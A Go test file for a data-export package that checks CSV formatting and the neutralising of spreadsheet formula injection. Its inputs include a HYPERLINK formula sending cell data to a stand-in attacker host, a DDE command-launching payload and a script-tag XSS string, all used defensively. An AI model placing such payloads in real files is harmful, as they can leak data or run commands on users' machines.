package export_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/attache-app/attache/data/export"
)

// readCSV checks the byte-order mark and CRLF line ends, parses the file as
// RFC 4180 CSV and returns its rows as maps keyed by the header.
func readCSV(t *testing.T, data []byte) ([]string, []map[string]string) {
	t.Helper()
	s, ok := strings.CutPrefix(string(data), "\ufeff")
	if !ok {
		t.Fatalf("CSV does not start with a UTF-8 byte-order mark: %q", data[:min(len(data), 20)])
	}
	if !strings.HasSuffix(s, "\r\n") {
		t.Errorf("CSV does not end in CRLF")
	}
	r := csv.NewReader(strings.NewReader(s))
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v\n%s", err, s)
	}
	header := recs[0]
	var rows []map[string]string
	for _, rec := range recs[1:] {
		m := map[string]string{}
		for i, h := range header {
			m[h] = rec[i]
		}
		rows = append(rows, m)
	}
	return header, rows
}

func TestWriteEventsCSV(t *testing.T) {
	var b bytes.Buffer
	evs := seedEvents()
	if err := export.WriteEventsCSV(&b, evs); err != nil {
		t.Fatal(err)
	}
	header, rows := readCSV(t, b.Bytes())
	if len(rows) != len(evs) {
		t.Fatalf("%d rows, want %d", len(rows), len(evs))
	}
	if strings.Join(header[:8], ",") != "id,date,enddate,date_precision,date_text,date_basis,actor,actor_entity_id" {
		t.Errorf("header = %v", header)
	}
	tests := []struct {
		row       int
		col, want string
	}{
		{0, "actor", "Donald Trump; Xi Jinping"},
		{0, "actor_country", "USA; CHN"},
		{0, "actor_entity_id", "2; 1"},
		{0, "recipient", ""},
		{0, "cameo", "041"},
		{0, "date", "2025-01-17"},
		{0, "event", "CONSULT"},
		{0, "text", evs[0].Text},
		{1, "cameo", "057"},
		{1, "recipient", "European Union"},
		{1, "goldstein", "8"},
		// Hostile cells are kept intact apart from the inert quote.
		{2, "title", `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{2, "publication", "'@Times, \"Pacific\"\nedition"},
		{2, "note", "decision date, not the announcement\n=1+1"}, // the reader turns CRLF into LF
		{2, "tags", "'-aid; +pacific"},
		{2, "coder", "'=bea"},
		{1, "coder", "ana"},
		{0, "coder", ""},
		{2, "summary", "<script>alert('x')</script> aid <b>cut</b>"},
		// Numbers stay numbers, negative or not.
		{2, "goldstein", "-5.6"},
		{2, "quad_class", "4"},
		{2, "start", "10"},
		{3, "goldstein", "-4"},
		{3, "date", ""},
		{3, "status", "rejected"},
	}
	for _, tt := range tests {
		if got := rows[tt.row][tt.col]; got != tt.want {
			t.Errorf("row %d %s = %q, want %q", tt.row, tt.col, got, tt.want)
		}
	}
	if !strings.Contains(b.String(), "\"decision date, not the announcement\r\n=1+1\"") {
		t.Errorf("line break inside a cell not written as a quoted CRLF:\n%q", b.String())
	}
}

func TestCSVFormulaCellsInert(t *testing.T) {
	hostile := []string{"=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "=HYPERLINK(\"http://x\")", "-"}
	safe := []string{"", "a=1", "1-2", "Ministry", " =x", "'quoted", "習近平"}
	var es []export.EntityRecord
	for i, s := range append(append([]string{}, hostile...), safe...) {
		es = append(es, export.EntityRecord{ID: int64(i + 1), Name: s, Aliases: []string{s}, Mentions: -i})
	}
	var b bytes.Buffer
	if err := export.WriteEntitiesCSV(&b, es); err != nil {
		t.Fatal(err)
	}
	header, rows := readCSV(t, b.Bytes())
	if strings.Join(header, ",") != "id,name,kind,country,role,aliases,mentions" {
		t.Errorf("header = %v", header)
	}
	for i, r := range rows {
		want := es[i].Name
		if i < len(hostile) {
			// encoding/csv drops a lone CR inside a cell when it writes CRLF line ends.
			want = "'" + strings.TrimPrefix(want, "\r")
		}
		if r["name"] != want || r["aliases"] != want {
			t.Errorf("entity %q: name %q aliases %q, want %q", es[i].Name, r["name"], r["aliases"], want)
		}
	}
	// A negative count is a number column: it is not quoted away.
	if rows[1]["mentions"] != "-1" {
		t.Errorf("mentions = %q, want -1", rows[1]["mentions"])
	}
}

func TestWritePassagesCSV(t *testing.T) {
	ps := []export.PassageRecord{
		{ArticleID: 1, Article: "Trump, Xi discuss Taiwan", Publication: "Taipei Times", Published: "2025-01-18",
			Quote: "“We both attach great importance to interaction,” Xi said.\nNext line, with \"quotes\"", Tags: []string{"quote", "US–China"},
			Note: "+ optimistic tone", Start: 550, End: 610, Coder: "ana"},
		{ArticleID: 2, Article: "@everyone", Quote: "=cmd|' /C calc'!A0", Start: 0, End: 18},
	}
	var b bytes.Buffer
	if err := export.WritePassagesCSV(&b, ps); err != nil {
		t.Fatal(err)
	}
	header, rows := readCSV(t, b.Bytes())
	if strings.Join(header, ",") != "article_id,article,publication,published,quote,tags,note,start,end,coder" {
		t.Errorf("header = %v", header)
	}
	want := []map[string]string{
		{"article_id": "1", "article": ps[0].Article, "publication": "Taipei Times", "published": "2025-01-18",
			"quote": ps[0].Quote, "tags": "quote; US–China", "note": "'+ optimistic tone", "start": "550", "end": "610", "coder": "ana"},
		{"article_id": "2", "article": "'@everyone", "publication": "", "published": "", "quote": "'=cmd|' /C calc'!A0",
			"tags": "", "note": "", "start": "0", "end": "18", "coder": ""},
	}
	for i := range want {
		for k, v := range want[i] {
			if rows[i][k] != v {
				t.Errorf("row %d %s = %q, want %q", i, k, rows[i][k], v)
			}
		}
	}
}

type failingWriter struct{ after int }

func (w *failingWriter) Write(p []byte) (int, error) {
	if w.after < len(p) {
		return 0, errFull
	}
	w.after -= len(p)
	return len(p), nil
}

func TestWritersReportWriteErrors(t *testing.T) {
	evs := seedEvents()
	writers := map[string]func(w *failingWriter) error{
		"events csv":   func(w *failingWriter) error { return export.WriteEventsCSV(w, evs) },
		"events json":  func(w *failingWriter) error { return export.WriteEventsJSON(w, evs) },
		"events jsonl": func(w *failingWriter) error { return export.WriteEventsJSONL(w, evs) },
		"timelinejs":   func(w *failingWriter) error { return export.WriteTimelineJS(w, "t", evs, nil) },
		"entities csv": func(w *failingWriter) error {
			return export.WriteEntitiesCSV(w, []export.EntityRecord{{ID: 1, Name: "x"}})
		},
		"passages csv": func(w *failingWriter) error {
			return export.WritePassagesCSV(w, []export.PassageRecord{{ArticleID: 1}})
		},
	}
	for name, write := range writers {
		err := write(&failingWriter{after: 2})
		if err == nil || !strings.HasPrefix(err.Error(), "export: ") || !strings.Contains(err.Error(), errFull.Error()) {
			t.Errorf("%s: error %v, want the write error wrapped by the package", name, err)
		}
	}
}
